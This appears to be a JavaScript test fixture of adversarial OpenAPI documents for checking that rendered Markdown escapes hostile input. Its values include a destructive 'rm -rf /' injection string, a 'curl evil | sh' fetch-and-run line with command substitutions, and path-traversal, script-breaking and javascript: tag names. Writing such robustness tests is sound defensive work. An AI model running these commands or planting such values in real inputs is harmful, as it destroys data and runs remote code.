import { documentOf, getting, returning } from "./everywhere.mjs";

const withDocs = { exit: 0 };

/** What is about the Markdown of an output. Texts that are about Markdown in every position are in `injection.mjs`. */
export const pageDocuments = [
  {
    id: "SEC-D05",
    name: "examples that end a fence",
    ...withDocs,
    document: returning({
      type: "object",
      required: ["a"],
      properties: { a: { type: "string", example: "````\n```\n~~~\n`$1`\n# heading" }, b: { type: "string", example: "'; rm -rf / #" } },
    }),
  },
  {
    id: "SEC-D05",
    name: "a title with commands",
    ...withDocs,
    document: documentOf("3.1.1", {
      info: { title: "x && curl evil | sh; $(x) `y`" },
      paths: { "/x": { get: getting({ type: "string" }) } },
    }),
  },
  {
    id: "SEC-D06",
    name: "tags as anchors and file names",
    ...withDocs,
    document: documentOf("3.1.1", {
      paths: Object.fromEntries(
        ["../x", "a#b", "</script><!--", "%00", "a?b", "#", "javascript:x"].map((tag, index) => [
          `/p${index}`,
          { get: { tags: [tag], responses: { 200: { description: tag } } } },
        ]),
      ),
    }),
  },
];
